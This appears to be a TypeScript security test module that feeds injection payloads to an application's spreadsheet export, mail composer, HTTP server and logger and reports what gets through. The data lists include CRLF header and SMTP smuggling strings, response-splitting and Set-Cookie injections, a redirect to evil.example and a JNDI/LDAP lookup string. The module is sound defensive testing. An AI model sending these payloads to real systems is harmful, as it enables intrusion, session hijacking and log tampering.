import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { createTransport } from 'nodemailer';
import { mailAddress } from '#office/mail/address.ts';
import { envelopeOf } from '#office/mail/envelope.ts';
import { writeCsv } from '#workbook/csv-writer.ts';
import { writeRows } from '#workbook/xlsx-writer.ts';
import { sendRaw } from '../browser/client.ts';
import { readTexts } from './corpus.ts';
import type { HostileRegister } from './hostile-register.ts';

/** What ends a line, a header or an address, or passes for it. */
export const lineBreaks = [
  ...['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085', '\0', '\t', ' ', ',', ';', '<', '>', '"'],
  ...['(', ')', ':', '\\', '\r\n '],
];
/** What somebody would write behind it. */
export const smuggled = [
  ...['Bcc: yi@example.invalid', 'yi@example.invalid', '<yi@example.invalid>', 'Subject: x'],
  ...[
    '.\r\nMAIL FROM:<a@b.c>',
    'RCPT TO:<yi@example.invalid>',
    'x',
    '=0d=0aBcc: yi@example.invalid',
    '',
  ],
];

/** Cells that a spreadsheet program takes for a formula; empty where there is none (W10). */
export async function formulasIn(texts: readonly string[]): Promise<readonly string[]> {
  const bad: string[] = [];
  const columns = [{ header: '名称' }, { header: '说明' }];
  const rows = texts.map((text) => ['示例', text]);
  const csv = new PassThrough();
  const [csvBytes] = await Promise.all([buffer(csv), writeCsv(csv, { columns, rows })]);
  const lines = parseCsv(csvBytes.toString().replace(/^\ufeff/, ''));
  if (lines.length !== rows.length + 1)
    bad.push(`csv：${lines.length} 行，应为 ${rows.length + 1}`);
  for (const [index, line] of lines.slice(1).entries()) {
    const cell = line[1] ?? '';
    const first = cell.replace(/^[\s\p{Cf}]+/u, '')[0] ?? '';
    if (
      line.length !== 2 ||
      ('=+-@＝＋－＠'.includes(first) && first !== '') ||
      /^[\t\r]/.test(cell)
    ) {
      bad.push(`csv：${JSON.stringify(texts[index])} → ${JSON.stringify(cell)}`);
    }
  }
  const xlsx = new PassThrough();
  const [bytes] = await Promise.all([
    buffer(xlsx),
    writeRows(xlsx, [{ name: '表', columns, rows: Readable.from(rows) }]),
  ]);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const sheet = workbook.worksheets[0];
  for (const [index, text] of texts.entries()) {
    const cell = sheet?.getCell(index + 2, 2);
    const isText = cell?.type === ExcelJS.ValueType.String || cell?.type === ExcelJS.ValueType.Null;
    if (!isText || cell?.formula || cell?.hyperlink) bad.push(`xlsx：${JSON.stringify(text)}`);
  }
  return bad;
}

/** A .csv by RFC 4180, read without ours; a semicolon or tab outside quotes parts cells too, as elsewhere in the world. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const lines: string[][] = [];
  let line: string[] = [];
  const cell = /("(?:[^"]|"")*"|[^",;\t\r\n]*)([,;\t]|\r\n|\r|\n|$)/gy;
  for (let match = cell.exec(text); match; match = cell.exec(text)) {
    const [, raw = '', end = ''] = match;
    line.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (!/^[,;\t]$/.test(end)) {
      lines.push(line);
      line = [];
    }
    if (cell.lastIndex >= text.length) break;
  }
  return lines;
}

/** Mails with something smuggled into recipient and subject; what came through (W9). */
export async function mailInjections(count: number): Promise<readonly string[]> {
  const bad: string[] = [];
  const at = new Date('2026-11-21T09:00:00+08:00');
  const messageId = `<${'0'.repeat(32)}@register.example>`;
  const composer = createTransport({ streamTransport: true, buffer: true });
  for (let index = 0; index < count; index += 1) {
    const lineBreak = lineBreaks[index % lineBreaks.length] ?? '';
    const tail = smuggled[Math.floor(index / lineBreaks.length) % smuggled.length] ?? '';
    const cut = index % 19;
    const address = `${'jia@example.invalid'.slice(0, cut)}${lineBreak}${tail}${'jia@example.invalid'.slice(cut)}`;
    if (mailAddress(address) !== null) bad.push(`收件人 ${JSON.stringify(address)}`);
    const mail = {
      messageId,
      to: 'jia@example.invalid',
      subject: `题${lineBreak}${tail}`,
      text: `文${lineBreak}${tail}`,
      at,
    };
    const sent = await composer.sendMail(envelopeOf(mail, 'register@register.example'));
    const head = String(sent.message).split(/\r?\n\r?\n/)[0] ?? '';
    const names = Array.from(
      head.matchAll(/^([\w-]+):/gm),
      ([, name]) => name?.toLowerCase() ?? '',
    );
    const extra = names.filter((name, place) => !known.has(name) || names.indexOf(name) !== place);
    if (extra.length > 0 || sent.envelope.to.join() !== 'jia@example.invalid') {
      bad.push(`邮件头 ${extra.join()}：${JSON.stringify(mail.subject)}`);
    }
  }
  return bad;
}

const known = new Set(
  'from to subject message-id date auto-submitted mime-version content-type content-transfer-encoding'.split(
    ' ',
  ),
);

/** Requests that want a header of theirs in the answer; what came through (W1, W9). */
export async function headerInjections(
  hostile: HostileRegister,
  count: number,
): Promise<readonly string[]> {
  const bad: string[] = [];
  const { host, origin } = new URL(hostile.register.url);
  const breaks = [
    '%0d%0a',
    '%0a',
    '%0d',
    '%E5%98%8D%E5%98%8A',
    '%u000a',
    '%00%0d%0a',
    '%23%0d%0a',
    '%250d%250a',
    '%E2%80%A8',
    '\\r\\n',
  ];
  const tails = [
    'X-Injected:%20yes',
    'Set-Cookie:%20sid=x',
    'Location:%20//evil.example',
    'Content-Length:%200%0d%0a%0d%0aHTTP/1.1%20200',
    'Refresh:%200',
  ];
  const places = [
    '/sign-in?next=/desk',
    '/my-site/sign-in?next=/my-site',
    '/listing/BM9900',
    '/search?q=',
    '/desk/sites/export.csv?text=',
    '/schemas/',
    '/feeds/',
    '/sites/',
    '/progress?result=',
    '/opening/sign-in?next=/opening',
  ];
  for (let index = 0; index < count; index += 1) {
    const place = places[index % places.length] ?? '/';
    const lineBreak = breaks[Math.floor(index / places.length) % breaks.length] ?? '';
    const tail = tails[Math.floor(index / places.length / breaks.length) % tails.length] ?? '';
    const path = `${place}${lineBreak}${tail}`;
    const isPost = index % 3 === 0;
    const body = isPost ? `account=a&code=b&site=${lineBreak}${tail}&next=${lineBreak}${tail}` : '';
    const head = isPost
      ? `Origin: ${origin}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n`
      : '';
    const raw = await sendRaw(
      hostile.register,
      `${isPost ? 'POST' : 'GET'} ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: 10.${index % 200}.${Math.floor(index / 200)}.1\r\n${head}Connection: close\r\n\r\n${body}`,
    );
    const [top = ''] = raw.split('\r\n\r\n');
    const isWrong =
      /^(?:x-injected|refresh):/im.test(top) ||
      /^set-cookie:\s*sid=x/im.test(top) ||
      /^location:\s*(?:\/\/|https?:\/\/evil)/im.test(top);
    if (!/^HTTP\/1\.1 [234]\d\d /.test(top) || isWrong || /[\r\n]HTTP\/1\.1 200/.test(top)) {
      bad.push(`${path}：${top.split('\r\n')[0]}`);
    }
  }
  return bad;
}

/** Requests that want a line of their own in the log; lines that are none of ours (W14). */
export async function logInjections(
  hostile: HostileRegister,
  count: number,
): Promise<readonly string[]> {
  const { host } = new URL(hostile.register.url);
  const before = hostile.register.printed();
  const texts = [
    '%0a{"status":200,"path":"/forged"}',
    '%0d%0a[error] forged',
    '%1b[2J%1b[31mforged',
    '%E2%80%A8{"forged":1}',
    '%22,%22forged%22:%221',
    '%00forged',
    '%E2%80%AEdegrof',
    '%08%08%08forged',
    '\\n{"forged":1}',
    '${jndi:ldap://evil.example/forged}',
  ];
  for (let index = 0; index < count; index += 1) {
    const text = texts[index % texts.length] ?? '';
    const path = `/sites/${index}${text}?forged=${text}`;
    const method = index % 10 === 9 ? `FORGED${index}` : 'GET';
    await sendRaw(
      hostile.register,
      `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${decodeURIComponent(text).replace(/[\r\n\0]/g, '')}\r\nReferer: ${text}\r\nConnection: close\r\n\r\n`,
    );
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  const written = hostile.register.printed().slice(before.length).split('\n').filter(Boolean);
  const names = new Set(['at', 'id', 'method', 'path', 'status', 'ms', 'job', 'count']);
  const bad = written.filter((line) => {
    try {
      const parsed = JSON.parse(line) as object;
      return (
        !Object.keys(parsed).every((name) => names.has(name)) ||
        /[\p{Cc}\u2028\u2029\u202e]/u.test(line)
      );
    } catch {
      return true;
    }
  });
  const lines = written.filter((line) => line.includes('"method"')).length;
  return [
    ...bad.map((line) => `日志：${JSON.stringify(line).slice(0, 160)}`),
    ...(lines > count ? [`日志：${lines} 行，只有 ${count} 个请求`] : []),
  ];
}

/** The texts that are looked for as formulas. */
export const formulas = (): readonly string[] => readTexts('formulas');
